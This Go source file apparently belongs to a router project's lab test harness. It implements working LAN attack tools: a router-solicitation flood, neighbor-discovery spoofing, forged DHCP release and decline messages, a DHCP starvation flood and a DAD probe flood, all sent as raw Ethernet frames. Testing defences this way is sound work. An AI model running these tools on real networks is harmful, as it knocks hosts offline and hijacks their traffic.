package main

// Attackers for the LAN's bounds, run inside a LAN namespace with `ip netns
// exec` (lab/integration/hostile_lan_test.go and the shared-64 test in
// lab/integration/zeroconf):
//
//	lab rs-flood -count 3000
//	lab nd-spoof -victim 02:00:00:00:02:10 -addr 2001:db8:1000::bad
//	lab dhcp-forge -type release -chaddr 02:00:00:00:02:20 -ip 203.0.113.130 -server 203.0.113.129 -server-mac 02:00:00:00:02:01
//	lab dhcp-flood -count 500 -random 2000
//	lab dad-flood -prefix 2001:db8:0:1::/64 -count 3000
//
// Each writes hand-built Ethernet frames on a packet socket, so that it can
// say what a host's own stack would not: an Ethernet source of its
// choosing, a link-layer option or a chaddr naming another host. They only
// send, and print what they sent.

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"net/netip"

	"github.com/insomniacslk/dhcp/dhcpv4"
	"github.com/mdlayher/ndp"
	"github.com/mdlayher/packet"
	"golang.org/x/net/bpf"
	"golang.org/x/sys/unix"

	"codeberg.org/monostack/gizmo/internal/ethframe"
	"codeberg.org/monostack/gizmo/lab/netlab"
)

// frameWriter sends whole Ethernet frames out of one interface.
type frameWriter struct {
	c   *packet.Conn
	mac net.HardwareAddr // the interface's own address
}

func openFrames(ifname string) (*frameWriter, error) {
	ifi, err := net.InterfaceByName(ifname)
	if err != nil {
		return nil, err
	}
	// ETH_P_ALL only names the socket's protocol for receiving, which a
	// sender never does: a filter that takes nothing keeps its queue empty.
	c, err := packet.Listen(ifi, packet.Raw, unix.ETH_P_ALL, &packet.Config{Filter: dropAll})
	if err != nil {
		return nil, fmt.Errorf("packet socket on %s: %w", ifname, err)
	}
	return &frameWriter{c: c, mac: ifi.HardwareAddr}, nil
}

// dropAll is the classic BPF program "ret #0" (BPF_RET|BPF_K).
var dropAll = []bpf.RawInstruction{{Op: 0x06, K: 0}}

func (w *frameWriter) send(ctx context.Context, frame []byte) error {
	return writeRetry(ctx, func() error {
		_, err := w.c.WriteTo(frame, &packet.Addr{HardwareAddr: frame[:6]})
		return err
	})
}

// randomMAC is a random locally administered unicast address.
func randomMAC() net.HardwareAddr {
	mac := make(net.HardwareAddr, 6)
	rand.Read(mac)
	mac[0] = mac[0]&^1 | 2
	return mac
}

// linkLocalOf is the EUI-64 link-local address of mac (RFC 4291 App. A).
func linkLocalOf(mac net.HardwareAddr) netip.Addr {
	b := [16]byte{0: 0xfe, 1: 0x80, 8: mac[0] ^ 2, 9: mac[1], 10: mac[2], 11: 0xff, 12: 0xfe, 13: mac[3], 14: mac[4], 15: mac[5]}
	return netip.AddrFrom16(b)
}

// ndFrame is the ND message m from src (Ethernet) and from (IPv6) to dst.
func ndFrame(src net.HardwareAddr, from, dst netip.Addr, m ndp.Message) ([]byte, error) {
	icmp, err := ndp.MarshalMessageChecksum(m, from, dst)
	if err != nil {
		return nil, err
	}
	return ethframe.Ethernet(ethframe.MulticastMAC(dst), src, ethframe.TypeIPv6, ethframe.IPv6(from, dst, 255, 58, icmp)), nil
}

var (
	allRouters = netip.MustParseAddr("ff02::2")
	allNodes   = netip.MustParseAddr("ff02::1")
)

func cmdRSFlood(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("rs-flood", flag.ContinueOnError)
	ifname := fs.String("interface", netlab.HostIf, "LAN interface")
	count := fs.Int("count", 3000, "solicitations, each from a new random MAC")
	if err := fs.Parse(args); err != nil {
		return err
	}
	w, err := openFrames(*ifname)
	if err != nil {
		return fmt.Errorf("rs-flood: %w", err)
	}
	defer w.c.Close()
	for i := range *count {
		// A well-formed RS of a host that is not there: its frame, its
		// option and its link-local address agree.
		mac := randomMAC()
		f, err := ndFrame(mac, linkLocalOf(mac), allRouters, &ndp.RouterSolicitation{
			Options: []ndp.Option{&ndp.LinkLayerAddress{Direction: ndp.Source, Addr: mac}},
		})
		if err != nil {
			return fmt.Errorf("rs-flood: %w", err)
		}
		if err := w.send(ctx, f); err != nil {
			return fmt.Errorf("rs-flood: after %d: %w", i, err)
		}
		pace(i + 1)
	}
	fmt.Printf("sent %d router solicitations from random MACs\n", *count)
	return nil
}

func cmdNDSpoof(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("nd-spoof", flag.ContinueOnError)
	ifname := fs.String("interface", netlab.HostIf, "LAN interface")
	victim := fs.String("victim", "", "the MAC address named in the link-layer options")
	addr := fs.String("addr", "", "the address to attach to the victim")
	if err := fs.Parse(args); err != nil {
		return err
	}
	vmac, err := net.ParseMAC(*victim)
	if err != nil || len(vmac) != 6 {
		return fmt.Errorf("nd-spoof: -victim %q: want a MAC address", *victim)
	}
	a, err := netip.ParseAddr(*addr)
	if err != nil || !a.Is6() {
		return fmt.Errorf("nd-spoof: -addr %q: want an IPv6 address", *addr)
	}
	w, err := openFrames(*ifname)
	if err != nil {
		return fmt.Errorf("nd-spoof: %w", err)
	}
	defer w.c.Close()
	// From the attacker's own Ethernet address, as a switch port that
	// checks source addresses would let through: an RS whose SLLAO and an
	// unsolicited NA (override) whose TLLAO name the victim.
	rs, err := ndFrame(w.mac, a, allRouters, &ndp.RouterSolicitation{
		Options: []ndp.Option{&ndp.LinkLayerAddress{Direction: ndp.Source, Addr: vmac}},
	})
	if err != nil {
		return fmt.Errorf("nd-spoof: %w", err)
	}
	na, err := ndFrame(w.mac, a, allNodes, &ndp.NeighborAdvertisement{
		Override: true, TargetAddress: a,
		Options: []ndp.Option{&ndp.LinkLayerAddress{Direction: ndp.Target, Addr: vmac}},
	})
	if err != nil {
		return fmt.Errorf("nd-spoof: %w", err)
	}
	for range 3 {
		for _, f := range [][]byte{rs, na} {
			if err := w.send(ctx, f); err != nil {
				return fmt.Errorf("nd-spoof: %w", err)
			}
		}
	}
	fmt.Printf("sent an RS and an NA from %s (%s) naming %s\n", a, w.mac, vmac)
	return nil
}

// dhcpFrame is m from the Ethernet source src: broadcast from 0.0.0.0
// when to is invalid, else unicast from from to to at dstMAC.
func dhcpFrame(src, dstMAC net.HardwareAddr, from, to netip.Addr, m *dhcpv4.DHCPv4) []byte {
	if !to.IsValid() {
		from, to, dstMAC = netip.IPv4Unspecified(), netip.MustParseAddr("255.255.255.255"), ethframe.Broadcast
	}
	udp := ethframe.IPv4UDP(netip.AddrPortFrom(from, dhcpv4.ClientPort), netip.AddrPortFrom(to, dhcpv4.ServerPort), m.ToBytes())
	return ethframe.Ethernet(dstMAC, src, ethframe.TypeIPv4, udp)
}

func cmdDHCPForge(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("dhcp-forge", flag.ContinueOnError)
	ifname := fs.String("interface", netlab.HostIf, "LAN interface")
	typ := fs.String("type", "release", "release or decline")
	chaddr := fs.String("chaddr", "", "the victim's MAC address")
	ipFlag := fs.String("ip", "", "the victim's leased address")
	server := fs.String("server", netlab.GizmoLANIPv4.Addr().String(), "the DHCP server's address")
	serverMAC := fs.String("server-mac", netlab.MACGizmoLAN, "the DHCP server's MAC address")
	if err := fs.Parse(args); err != nil {
		return err
	}
	vmac, err1 := net.ParseMAC(*chaddr)
	smac, err2 := net.ParseMAC(*serverMAC)
	ip, err3 := netip.ParseAddr(*ipFlag)
	sid, err4 := netip.ParseAddr(*server)
	if err1 != nil || err2 != nil || err3 != nil || err4 != nil || !ip.Is4() || !sid.Is4() {
		return fmt.Errorf("dhcp-forge: want -chaddr and -server-mac MACs, -ip and -server IPv4 addresses")
	}
	w, err := openFrames(*ifname)
	if err != nil {
		return fmt.Errorf("dhcp-forge: %w", err)
	}
	defer w.c.Close()
	var f []byte
	switch *typ {
	case "release":
		// RFC 2131 §4.4.6: unicast to the server, ciaddr the lease.
		m, err := dhcpv4.New(dhcpv4.WithHwAddr(vmac), dhcpv4.WithMessageType(dhcpv4.MessageTypeRelease),
			dhcpv4.WithClientIP(ip.AsSlice()), dhcpv4.WithOption(dhcpv4.OptServerIdentifier(sid.AsSlice())))
		if err != nil {
			return fmt.Errorf("dhcp-forge: %w", err)
		}
		f = dhcpFrame(w.mac, smac, ip, sid, m)
	case "decline":
		// RFC 2131 §4.4.4: broadcast, the address in option 50.
		m, err := dhcpv4.New(dhcpv4.WithHwAddr(vmac), dhcpv4.WithMessageType(dhcpv4.MessageTypeDecline),
			dhcpv4.WithOption(dhcpv4.OptRequestedIPAddress(ip.AsSlice())), dhcpv4.WithOption(dhcpv4.OptServerIdentifier(sid.AsSlice())))
		if err != nil {
			return fmt.Errorf("dhcp-forge: %w", err)
		}
		f = dhcpFrame(w.mac, nil, netip.Addr{}, netip.Addr{}, m)
	default:
		return fmt.Errorf("dhcp-forge: -type %q: want release or decline", *typ)
	}
	if err := w.send(ctx, f); err != nil {
		return fmt.Errorf("dhcp-forge: %w", err)
	}
	fmt.Printf("sent a %s for %s in the name of %s from %s\n", *typ, ip, vmac, w.mac)
	return nil
}

func cmdDHCPFlood(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("dhcp-flood", flag.ContinueOnError)
	ifname := fs.String("interface", netlab.HostIf, "LAN interface")
	count := fs.Int("count", 500, "DISCOVERs from the interface's own MAC")
	random := fs.Int("random", 2000, "DISCOVERs each from a new random MAC (Ethernet source and chaddr alike)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	w, err := openFrames(*ifname)
	if err != nil {
		return fmt.Errorf("dhcp-flood: %w", err)
	}
	defer w.c.Close()
	sent := 0
	for i := range *count + *random {
		mac := w.mac
		if i >= *count {
			mac = randomMAC()
		}
		var xid dhcpv4.TransactionID
		binary.BigEndian.PutUint32(xid[:], uint32(i))
		m, err := dhcpv4.New(dhcpv4.WithHwAddr(mac), dhcpv4.WithMessageType(dhcpv4.MessageTypeDiscover), dhcpv4.WithTransactionID(xid))
		if err != nil {
			return fmt.Errorf("dhcp-flood: %w", err)
		}
		if err := w.send(ctx, dhcpFrame(mac, nil, netip.Addr{}, netip.Addr{}, m)); err != nil {
			return fmt.Errorf("dhcp-flood: after %d: %w", sent, err)
		}
		sent++
		pace(sent)
	}
	fmt.Printf("sent %d DISCOVERs from %s and %d from random MACs\n", *count, w.mac, *random)
	return nil
}

func cmdDADFlood(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("dad-flood", flag.ContinueOnError)
	ifname := fs.String("interface", netlab.HostIf, "LAN interface")
	prefix := fs.String("prefix", netlab.WANPrefix6.String(), "the /64 whose addresses are claimed")
	count := fs.Int("count", 3000, "DAD probes, each for a new random address")
	if err := fs.Parse(args); err != nil {
		return err
	}
	p, err := netip.ParsePrefix(*prefix)
	if err != nil || p.Bits() != 64 || !p.Addr().Is6() {
		return fmt.Errorf("dad-flood: -prefix %q: want an IPv6 /64", *prefix)
	}
	w, err := openFrames(*ifname)
	if err != nil {
		return fmt.Errorf("dad-flood: %w", err)
	}
	defer w.c.Close()
	for i := range *count {
		// RFC 4862 §5.4.2: from ::, to the tentative address's
		// solicited-node group, no SLLAO. Nobody will ever answer for it.
		b := p.Masked().Addr().As16()
		rand.Read(b[8:])
		target := netip.AddrFrom16(b)
		f, err := ndFrame(w.mac, netip.IPv6Unspecified(), ethframe.SolicitedNode(target), &ndp.NeighborSolicitation{TargetAddress: target})
		if err != nil {
			return fmt.Errorf("dad-flood: %w", err)
		}
		if err := w.send(ctx, f); err != nil {
			return fmt.Errorf("dad-flood: after %d: %w", i, err)
		}
		pace(i + 1)
	}
	fmt.Printf("sent %d DAD probes for addresses in %s\n", *count, p)
	return nil
}
